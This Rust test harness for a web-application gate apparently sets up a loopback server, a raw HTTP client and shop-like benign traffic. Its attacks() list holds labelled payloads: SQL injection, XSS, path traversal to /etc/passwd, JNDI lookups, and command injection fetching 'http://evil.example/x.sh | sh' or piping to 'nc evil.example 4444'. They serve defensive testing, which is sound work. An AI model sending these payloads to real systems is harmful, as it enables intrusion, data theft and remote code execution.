//! Shared test harness: a real upstream HTTP server, a raw HTTP/1.1 client, a gate on
//! loopback, and a generator of benign and attack traffic.
#![allow(dead_code)]

use std::convert::Infallible;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use anyhow::{bail, Context, Result};
use bytes::Bytes;
use http_body_util::{BodyExt, Full};
use hyper::header::HeaderValue;
use hyper::service::service_fn;
use hyper_util::rt::TokioIo;
use palisade_gate::{Gate, GateConfig, GateEvent, Mode, Profile, SharedProfile};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio::sync::mpsc;

#[path = "../../examples/gate-eval/corpus.rs"]
mod corpus;
pub use corpus::Rng;

/// The upstream service: answers every request, echoes bodies on `/echo`, echoes bytes after
/// a WebSocket upgrade, and counts what it received.
pub struct Upstream {
    pub addr: SocketAddr,
    pub hits: Arc<AtomicUsize>,
}

impl Upstream {
    pub fn hits(&self) -> usize {
        self.hits.load(Ordering::SeqCst)
    }
}

pub async fn start_upstream() -> Result<Upstream> {
    let listener = TcpListener::bind("127.0.0.1:0").await?;
    let addr = listener.local_addr()?;
    let hits = Arc::new(AtomicUsize::new(0));
    let counter = hits.clone();
    tokio::spawn(async move {
        loop {
            let Ok((stream, _)) = listener.accept().await else {
                return;
            };
            let counter = counter.clone();
            tokio::spawn(async move {
                let service = service_fn(move |req| {
                    let counter = counter.clone();
                    async move { Ok::<_, Infallible>(upstream_handle(req, counter).await) }
                });
                let _ = hyper::server::conn::http1::Builder::new()
                    .serve_connection(TokioIo::new(stream), service)
                    .with_upgrades()
                    .await;
            });
        }
    });
    Ok(Upstream { addr, hits })
}

async fn upstream_handle(
    mut req: hyper::Request<hyper::body::Incoming>,
    counter: Arc<AtomicUsize>,
) -> hyper::Response<Full<Bytes>> {
    counter.fetch_add(1, Ordering::SeqCst);
    if req.headers().contains_key(hyper::header::UPGRADE) {
        let protocol = req.headers()[hyper::header::UPGRADE].clone();
        let saw_settings = req.headers().contains_key("http2-settings");
        let on_upgrade = hyper::upgrade::on(&mut req);
        tokio::spawn(async move {
            if let Ok(upgraded) = on_upgrade.await {
                let mut io = TokioIo::new(upgraded);
                let mut buf = [0u8; 1024];
                while let Ok(n) = io.read(&mut buf).await {
                    if n == 0 || io.write_all(&buf[..n]).await.is_err() {
                        break;
                    }
                }
            }
        });
        let mut resp = hyper::Response::new(Full::new(Bytes::new()));
        *resp.status_mut() = hyper::StatusCode::SWITCHING_PROTOCOLS;
        let h = resp.headers_mut();
        h.insert("connection", HeaderValue::from_static("upgrade"));
        h.insert("upgrade", protocol);
        if saw_settings {
            h.insert("x-saw-http2-settings", HeaderValue::from_static("yes"));
        }
        return resp;
    }
    let path = req.uri().path().to_string();
    let body = req
        .into_body()
        .collect()
        .await
        .map(|b| b.to_bytes())
        .unwrap_or_default();
    if path == "/slow" {
        tokio::time::sleep(Duration::from_millis(400)).await;
    }
    let (ct, out) = if path == "/echo" {
        ("application/octet-stream", body)
    } else {
        (
            "application/json",
            Bytes::from(format!("{{\"ok\":true,\"received\":{}}}", body.len())),
        )
    };
    let mut resp = hyper::Response::new(Full::new(out));
    let h = resp.headers_mut();
    h.insert("content-type", HeaderValue::from_static(ct));
    h.insert("server", HeaderValue::from_static("test-upstream"));
    resp
}

/// A gate on a loopback port in front of an upstream, with its event channel.
pub struct TestGate {
    pub gate: Gate,
    pub addr: SocketAddr,
    pub events: mpsc::Receiver<GateEvent>,
}

impl TestGate {
    pub fn drain_events(&mut self) -> Vec<GateEvent> {
        let mut out = Vec::new();
        while let Ok(e) = self.events.try_recv() {
            out.push(e);
        }
        out
    }
}

pub fn test_config(mode: Mode) -> GateConfig {
    GateConfig {
        mode,
        auto_alert: None,
        header_read_timeout: Duration::from_secs(5),
        alert_window: Duration::ZERO,
        ..GateConfig::default()
    }
}

pub async fn start_gate(
    config: GateConfig,
    profile: Profile,
    upstream: SocketAddr,
) -> Result<TestGate> {
    let listener = std::net::TcpListener::bind("127.0.0.1:0")?;
    let addr = listener.local_addr()?;
    let (tx, rx) = mpsc::channel(4096);
    let gate = Gate::new(config, SharedProfile::new(profile), Arc::new(tx));
    let serving = gate.clone();
    tokio::spawn(async move {
        if let Err(e) = serving.serve(listener, upstream).await {
            panic!("gate stopped: {e}");
        }
    });
    Ok(TestGate {
        gate,
        addr,
        events: rx,
    })
}

/// A real upstream and a gate in front of it with `config` and an empty profile; the test holds
/// both for as long as it sends.
pub async fn gate_to_upstream(config: GateConfig) -> Result<(Upstream, TestGate)> {
    let up = start_upstream().await?;
    let gate = start_gate(config, Profile::default(), up.addr).await?;
    Ok((up, gate))
}

/// One HTTP/1.1 exchange's answer.
#[derive(Debug)]
pub struct HttpResponse {
    pub status: u16,
    pub headers: Vec<(String, String)>,
    pub body: Vec<u8>,
}

impl HttpResponse {
    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }
}

/// A raw client connection, so tests control exactly which bytes go on the wire.
pub struct Client {
    pub stream: TcpStream,
    buf: Vec<u8>,
}

impl Client {
    pub async fn connect(addr: SocketAddr) -> Result<Client> {
        let stream = TcpStream::connect(addr).await.context("connect to gate")?;
        Ok(Client {
            stream,
            buf: Vec::new(),
        })
    }

    pub fn from_stream(stream: TcpStream) -> Client {
        Client {
            stream,
            buf: Vec::new(),
        }
    }

    pub async fn send(&mut self, req: &TestRequest) -> Result<HttpResponse> {
        self.stream.write_all(&req.to_bytes()).await?;
        self.read_response().await
    }

    async fn fill(&mut self) -> Result<usize> {
        let mut chunk = [0u8; 8192];
        let n = tokio::time::timeout(Duration::from_secs(10), self.stream.read(&mut chunk))
            .await
            .context("response timed out")??;
        self.buf.extend_from_slice(&chunk[..n]);
        Ok(n)
    }

    async fn take(&mut self, n: usize) -> Result<Vec<u8>> {
        while self.buf.len() < n {
            if self.fill().await? == 0 {
                bail!("connection closed mid-body");
            }
        }
        Ok(self.buf.drain(..n).collect())
    }

    async fn line(&mut self) -> Result<String> {
        loop {
            if let Some(i) = self.buf.windows(2).position(|w| w == b"\r\n") {
                let line: Vec<u8> = self.buf.drain(..i + 2).collect();
                return Ok(String::from_utf8_lossy(&line[..i]).into_owned());
            }
            if self.fill().await? == 0 {
                bail!("connection closed");
            }
        }
    }

    pub async fn read_response(&mut self) -> Result<HttpResponse> {
        let status_line = self.line().await?;
        let status: u16 = status_line
            .split(' ')
            .nth(1)
            .context("status line")?
            .parse()?;
        let mut headers = Vec::new();
        loop {
            let l = self.line().await?;
            if l.is_empty() {
                break;
            }
            let (k, v) = l.split_once(':').context("header line")?;
            headers.push((k.trim().to_ascii_lowercase(), v.trim().to_string()));
        }
        let mut resp = HttpResponse {
            status,
            headers,
            body: Vec::new(),
        };
        if status == 101 || status == 204 || status == 304 {
            return Ok(resp);
        }
        if let Some(n) = resp.header("content-length") {
            let n: usize = n.parse()?;
            resp.body = self.take(n).await?;
        } else if resp.header("transfer-encoding") == Some("chunked") {
            loop {
                let size = usize::from_str_radix(self.line().await?.trim(), 16)?;
                if size == 0 {
                    self.line().await?;
                    break;
                }
                let chunk = self.take(size).await?;
                resp.body.extend_from_slice(&chunk);
                self.line().await?;
            }
        } else {
            while self.fill().await? > 0 {}
            resp.body = std::mem::take(&mut self.buf);
        }
        Ok(resp)
    }

    /// Whether the peer closed the connection within `wait`.
    pub async fn closed_within(&mut self, wait: Duration) -> bool {
        let mut chunk = [0u8; 1024];
        let deadline = tokio::time::Instant::now() + wait;
        loop {
            match tokio::time::timeout_at(deadline, self.stream.read(&mut chunk)).await {
                Err(_) => return false,
                Ok(Ok(0)) | Ok(Err(_)) => return true,
                Ok(Ok(_)) => continue,
            }
        }
    }
}

/// A request of the shop's traffic: the evaluation corpus's request (`gate-eval`), written
/// out with `host: shop.test`.
#[derive(Clone, Debug)]
pub struct TestRequest(corpus::Req);

impl std::ops::Deref for TestRequest {
    type Target = corpus::Req;

    fn deref(&self) -> &corpus::Req {
        &self.0
    }
}

impl TestRequest {
    pub fn get(target: &str) -> Self {
        TestRequest(corpus::Req::get(target))
    }

    pub fn post(target: &str, content_type: &str, body: &[u8]) -> Self {
        TestRequest(corpus::Req::send(
            "POST",
            target,
            content_type,
            body.to_vec(),
        ))
    }

    pub fn header(self, k: &str, v: &str) -> Self {
        TestRequest(self.0.header(k, v))
    }

    /// The gate's view of this request, as the proxy would build it.
    pub fn to_sample(&self) -> palisade_gate::Request {
        let mut headers = vec![("host".to_string(), "shop.test".to_string())];
        headers.extend(self.headers.iter().cloned());
        if let Some(b) = &self.body {
            headers.push(("content-length".into(), b.len().to_string()));
        }
        let mut r = palisade_gate::Request::new(
            &self.method,
            "HTTP/1.1",
            &self.target,
            headers,
            Some(std::net::Ipv4Addr::LOCALHOST.into()),
        );
        if let Some(b) = &self.body {
            r.attach_body(b);
        }
        r
    }

    pub fn to_bytes(&self) -> Vec<u8> {
        self.0.to_bytes("shop.test")
    }
}

const USER_AGENTS: &[&str] = &[
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "shop-mobile/3.12.1 (Android 14; Pixel 8)",
    "curl/8.5.0",
];
const ACCEPTS: &[&str] = &[
    "application/json",
    "*/*",
    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "application/json, text/plain, */*",
];
const LANGUAGES: &[&str] = &[
    "en-US,en;q=0.9",
    "de-DE,de;q=0.8,en;q=0.5",
    "fr-FR",
    "en-GB,en;q=0.7",
];
const CATEGORIES: &[&str] = &[
    "shoes", "hats", "jackets", "bags", "socks", "gloves", "scarves", "belts",
];
const SORTS: &[&str] = &["price", "name", "rating", "newest"];
const FILES: &[&str] = &[
    "app.js",
    "vendor.js",
    "main.css",
    "logo.png",
    "hero-banner.jpg",
    "icons.svg",
];
const FIRST: &[&str] = &[
    "anna", "ben", "carla", "dmitri", "emma", "farid", "greta", "hiro",
];
/// Words of the learning vocabulary.
const WORDS: &[&str] = &[
    "red",
    "blue",
    "winter",
    "running",
    "leather",
    "wool",
    "summer",
    "black",
    "cotton",
    "kids",
    "waterproof",
    "classic",
    "slim",
    "warm",
    "light",
    "travel",
];
/// Words never seen while learning: benign test traffic uses them to check that new but
/// ordinary values pass.
const NEW_WORDS: &[&str] = &[
    "green", "hiking", "linen", "vintage", "yellow", "denim", "soft", "evening", "canvas",
    "outdoor", "striped", "velvet",
];
const NOTES: &[&str] = &[
    "leave at the door",
    "please ring twice",
    "gift wrap please",
    "deliver after 5pm",
    "call before delivery",
    "ring",
    "second floor",
    "leave with the neighbour at number 12",
    "fragile",
    "the parcel box code is 4471",
    "do not bend",
    "",
];
const NEW_NOTES: &[&str] = &[
    "back door is open",
    "knock loudly",
    "deliver before 9am",
    "no gift receipt",
    "porch",
    "ask for the manager at reception",
];

fn words(rng: &mut Rng, vocab: &[&str]) -> String {
    let n = 1 + rng.below(3);
    (0..n)
        .map(|_| rng.pick(vocab))
        .collect::<Vec<_>>()
        .join("+")
}

/// Benign traffic of an online shop: several endpoints, ordinary varied values, browser-like
/// headers. `fresh` draws search words and notes from a vocabulary never used in learning.
pub fn benign(rng: &mut Rng, fresh: bool) -> TestRequest {
    let vocab = if fresh { NEW_WORDS } else { WORDS };
    let notes = if fresh { NEW_NOTES } else { NOTES };
    let mut req = match rng.below(9) {
        0 => TestRequest::get(&format!(
            "/api/products?category={}&page={}&sort={}",
            rng.pick(CATEGORIES),
            1 + rng.below(20),
            rng.pick(SORTS)
        )),
        1 => TestRequest::get(&format!("/api/products/{}", 1000 + rng.below(90000))),
        2 => TestRequest::get(&format!("/search?q={}&lang=en", words(rng, vocab))),
        3 => {
            let body = format!(
                r#"{{"product_id":{},"quantity":{},"note":"{}","express":{}}}"#,
                1000 + rng.below(90000),
                1 + rng.below(5),
                rng.pick(notes),
                rng.below(2) == 1
            );
            TestRequest::post("/api/orders", "application/json", body.as_bytes())
        }
        4 => {
            let body = format!(
                "username={}{}&password={}&remember=on",
                rng.pick(FIRST),
                rng.below(100),
                rng.hex(12)
            );
            TestRequest::post(
                "/login",
                "application/x-www-form-urlencoded",
                body.as_bytes(),
            )
        }
        5 => TestRequest::get(&format!(
            "/users/{}/orders?limit={}",
            10 + rng.below(5000),
            rng.pick(&["10", "20", "50"])
        )),
        6 => TestRequest::get(&format!("/static/{}", rng.pick(FILES))),
        7 => {
            let ext = rng.pick(&["jpg", "png"]);
            let ct = if ext == "jpg" {
                "image/jpeg"
            } else {
                "image/png"
            };
            let file = format!("{}-{}.{ext}", rng.pick(FIRST), rng.below(1000));
            avatar_upload(&rng.hex(16), &(10 + rng.below(5000)).to_string(), &file, ct)
        }
        _ => TestRequest::get(&format!("/api/products?category={}", rng.pick(CATEGORIES))),
    };
    req = req
        .header("user-agent", rng.pick(USER_AGENTS))
        .header("accept", rng.pick(ACCEPTS))
        .header("accept-language", rng.pick(LANGUAGES));
    if rng.below(2) == 0 {
        req = req.header("cookie", &format!("session={}", rng.hex(32)));
    }
    if rng.below(3) == 0 {
        req = req.header(
            "x-forwarded-for",
            &format!(
                "{}.{}.{}.{}",
                1 + rng.below(223),
                rng.below(256),
                rng.below(256),
                1 + rng.below(254)
            ),
        );
    }
    req
}

/// A multipart upload of an avatar picture with the owner's id.
pub fn avatar_upload(
    boundary: &str,
    user_id: &str,
    filename: &str,
    content_type: &str,
) -> TestRequest {
    let boundary = format!("----shopform{boundary}");
    let mut body = format!(
        "--{boundary}\r\ncontent-disposition: form-data; name=\"user_id\"\r\n\r\n{user_id}\r\n--{boundary}\r\ncontent-disposition: form-data; name=\"avatar\"; filename=\"{filename}\"\r\ncontent-type: {content_type}\r\n\r\n"
    )
    .into_bytes();
    body.extend_from_slice(&[0x89, b'P', b'N', b'G', 0, 1, 2, 3, 0xff, 0xd8]);
    body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    TestRequest::post(
        "/api/avatar",
        &format!("multipart/form-data; boundary={boundary}"),
        &body,
    )
}

/// Attacks, each named by its family, delivered in the places a real exploit would use.
pub fn attacks() -> Vec<(&'static str, TestRequest)> {
    let ua = USER_AGENTS[0];
    let get = |target: &str| {
        TestRequest::get(target)
            .header("user-agent", ua)
            .header("accept", "*/*")
    };
    let order = |note: &str| {
        let body = format!(r#"{{"product_id":1234,"quantity":1,"note":"{note}","express":false}}"#);
        TestRequest::post("/api/orders", "application/json", body.as_bytes())
            .header("user-agent", ua)
    };
    let login = |user: &str| {
        let body = format!("username={user}&password=abc123&remember=on");
        TestRequest::post(
            "/login",
            "application/x-www-form-urlencoded",
            body.as_bytes(),
        )
        .header("user-agent", ua)
    };
    vec![
        ("sqli", get("/search?q=%27%20OR%20%271%27%3D%271&lang=en")),
        (
            "sqli",
            get("/search?q=1%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--&lang=en"),
        ),
        (
            "sqli",
            get("/api/products?category=shoes%27--&page=1&sort=price"),
        ),
        (
            "sqli",
            get("/api/products?category=shoes&page=1%20AND%20SLEEP(5)&sort=price"),
        ),
        ("sqli", get("/api/products/1%20OR%201%3D1")),
        ("sqli", get("/users/1;DROP%20TABLE%20users/orders?limit=10")),
        ("sqli", login("admin%27--")),
        ("sqli", login("x%27%20OR%201%3D1%23")),
        (
            "sqli",
            order("x' || (SELECT password FROM users LIMIT 1) || '"),
        ),
        (
            "sqli",
            get("/search?q=shoes/**/UNION/**/SELECT/**/1&lang=en"),
        ),
        (
            "sqli",
            get("/api/products?category=0x73686f6573&page=1&sort=price"),
        ),
        (
            "xss",
            get("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&lang=en"),
        ),
        (
            "xss",
            get("/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E&lang=en"),
        ),
        (
            "xss",
            get("/search?q=javascript:alert(document.cookie)&lang=en"),
        ),
        ("xss", order("<svg/onload=alert(1)>")),
        ("xss", login("%3Cb%20onmouseover%3Dalert(1)%3E")),
        (
            "xss",
            get("/api/products?category=%3Ciframe%20src%3D%2F%2Fevil%3E&page=1&sort=name"),
        ),
        ("traversal", get("/static/../../etc/passwd")),
        ("traversal", get("/static/%2e%2e/%2e%2e/%2e%2e/etc/shadow")),
        ("traversal", get("/static/..%2f..%2f..%2fetc%2fpasswd")),
        ("traversal", get("/static/....//....//etc/passwd")),
        (
            "traversal",
            get("/api/products?category=..%2F..%2Fetc%2Fpasswd&page=1&sort=name"),
        ),
        (
            "cmdi",
            get("/search?q=shoes%3B%20cat%20%2Fetc%2Fpasswd&lang=en"),
        ),
        ("cmdi", get("/search?q=%24(id)&lang=en")),
        ("cmdi", get("/search?q=%60whoami%60&lang=en")),
        (
            "cmdi",
            get("/search?q=a%20%7C%20nc%20evil.example%204444&lang=en"),
        ),
        ("cmdi", order("x && curl http://evil.example/x.sh | sh")),
        ("cmdi", login("bob%0Aid")),
        (
            "jndi",
            get("/search?q=shoes&lang=en").header("user-agent", "${jndi:ldap://evil.example/a}"),
        ),
        (
            "jndi",
            get("/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fx%7D&lang=en"),
        ),
        (
            "jndi",
            get("/api/products/1234").header("x-api-version", "${jndi:rmi://evil.example/o}"),
        ),
        (
            "jndi",
            get("/api/products/1234")
                .header("accept-language", "${${lower:j}ndi:dns://evil.example}"),
        ),
        (
            "jndi",
            order("${jndi:ldap://evil.example:1389/Basic/Command}"),
        ),
        (
            "traversal",
            avatar_upload(
                "0123456789abcdef",
                "42",
                "../../../etc/cron.d/job",
                "image/png",
            )
            .header("user-agent", ua),
        ),
        (
            "cmdi",
            avatar_upload(
                "0123456789abcdef",
                "42; curl evil.example|sh",
                "anna-1.png",
                "image/png",
            )
            .header("user-agent", ua),
        ),
        (
            "xss",
            avatar_upload(
                "0123456789abcdef",
                "42",
                "<img src=x onerror=alert(1)>.png",
                "image/png",
            )
            .header("user-agent", ua),
        ),
        (
            "unknown-param",
            get("/api/products?category=shoes&debug=true"),
        ),
        ("unknown-param", get("/users/42/orders?limit=10&admin=1")),
        ("unknown-param", get("/search?q=shoes&lang=en&callback=x")),
        (
            "oversized",
            get(&format!("/search?q={}&lang=en", "a".repeat(4000))),
        ),
        (
            "oversized",
            get("/api/products/1234").header("cookie", &format!("session={}", "f".repeat(6000))),
        ),
        ("oversized", order(&"lorem ipsum ".repeat(400))),
        (
            "oversized",
            get(&format!("/api/products/{}", "9".repeat(300))),
        ),
    ]
}
